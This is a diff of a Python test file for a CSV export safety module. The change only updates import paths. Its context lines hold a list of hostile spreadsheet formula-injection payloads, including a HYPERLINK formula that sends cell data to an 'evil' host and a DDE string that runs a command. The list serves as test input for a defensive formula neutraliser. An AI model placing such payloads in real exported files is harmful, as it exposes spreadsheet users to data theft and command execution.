@@ -13,10 +13,10 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 import planx
-from load import SqliteSink
-from load.csv import csv_lines
-from load.safety import OutputError, csv_row, neutralise_formula
-from load.schema import TABLES, columns
+from planx.load import SqliteSink
+from planx.load.csv import csv_lines
+from planx.load.safety import OutputError, csv_row, neutralise_formula
+from planx.load.schema import TABLES, columns
 from tests.conftest import ROOT
 
 HOSTILE = ["=HYPERLINK(\"http://evil/\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1"]
